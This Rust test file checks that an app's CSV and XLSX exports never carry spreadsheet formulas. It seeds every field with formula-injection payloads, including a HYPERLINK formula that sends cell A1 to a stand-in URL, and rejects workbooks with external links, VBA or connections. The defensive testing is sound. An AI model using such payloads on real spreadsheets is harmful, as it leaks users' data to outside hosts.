//! Formulas in every text field: no spreadsheet that leaves here reckons with what somebody typed.

use std::io::{Cursor, Read};

use tempfile::tempdir;

use super::script::is_table;
use super::town::Town;
use crate::program::Program;

#[test]
fn no_cell_of_any_spreadsheet_starts_a_formula() {
    // Each field gets one of them in each town, and its neighbors others.
    let starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u{a0}=", "＝", "＋", "－", "＠", "\"=", "'=", "\u{200b}=", "\0="];
    for turn in 0..3 {
        let folder = tempdir().unwrap();
        let program = Program::start(&folder.path().join("milepost.db"));
        let town = Town::found(program, &|name| {
            let start = starts[(name.bytes().map(usize::from).sum::<usize>() + turn * 5) % starts.len()];
            let what = if name == "year" { "A1" } else { "\"http://example.org/\"&A1,\"x\"" };
            format!("{start}HYPERLINK({what})")
        });
        let mut found = 0;
        for round in &town.rounds {
            let table = town.get(&format!("{round}/report.csv"));
            is_table(round, &table.expect(200).body);
            found += table.text().matches("HYPERLINK").count();
            is_workbook(&town.get(&format!("{round}/report.xlsx")).expect(200).body);
        }
        is_workbook(&town.get(&format!("{}/coalition.xlsx", town.home)).expect(200).body);
        let plan = town.get(&format!("{}/plan.csv", town.home));
        is_table(&town.home, &plan.expect(200).body);
        found += plan.text().matches("HYPERLINK").count();
        is_workbook(&town.get(&format!("{}/plan.xlsx", town.home)).expect(200).body);
        assert!(found > 60, "too few cells to prove anything: {found}");
    }
}

/// What a workbook holds is text, never a formula, a link to a program, or a link to another file.
fn is_workbook(bytes: &[u8]) {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let names: Vec<String> = archive.file_names().map(|name| name.unwrap().into_owned()).collect();
    let mut told = 0;
    for name in names {
        assert!(!name.contains("externalLink") && !name.contains("vba") && !name.contains("connections"), "{name}");
        let mut text = String::new();
        archive.by_name(&name).unwrap().read_to_string(&mut text).unwrap();
        told += text.matches("HYPERLINK").count();
        if name.contains("worksheets/") {
            let tree = roxmltree::Document::parse(&text).unwrap();
            assert!(tree.descendants().all(|node| node.tag_name().name() != "f"), "a formula in {name}");
            let is_text = |node: &roxmltree::Node<'_, '_>| node.tag_name().name() == "c" && node.attribute("t") == Some("s");
            assert!(tree.descendants().any(|node| is_text(&node)), "{name}");
        }
    }
    assert!(told > 0);
}
